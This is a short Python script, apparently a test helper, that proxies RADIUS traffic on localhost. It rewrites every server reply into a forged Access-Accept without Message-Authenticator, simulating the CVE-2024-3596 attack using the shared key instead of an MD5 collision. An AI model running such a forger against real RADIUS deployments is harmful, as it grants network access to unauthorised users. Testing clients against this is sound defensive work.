#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""One on the way between a RADIUS client and its server, who turns every answer into an
Access-Accept without Message-Authenticator. A collision of MD5 gives the real one a right Response
Authenticator (CVE-2024-3596); this one has the key instead.

usage: radius_forger.py PORT SERVER_PORT KEY"""

import hashlib
import socket
import sys

ACCEPT = 2


def forged(answer, authenticator, key):
    """An Access-Accept with nothing in it, to the request with this authenticator."""
    head = bytes([ACCEPT, answer[1], 0, 20])
    return head + hashlib.md5(head + authenticator + key).digest()


def main():
    port, server, key = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode()
    here = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    here.bind(("127.0.0.1", port))
    there = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    there.settimeout(2)
    while True:
        request, client = here.recvfrom(4096)
        there.sendto(request, ("127.0.0.1", server))
        try:
            answer = there.recv(4096)
        except TimeoutError:
            continue
        here.sendto(forged(answer, request[4:20], key), client)


main()
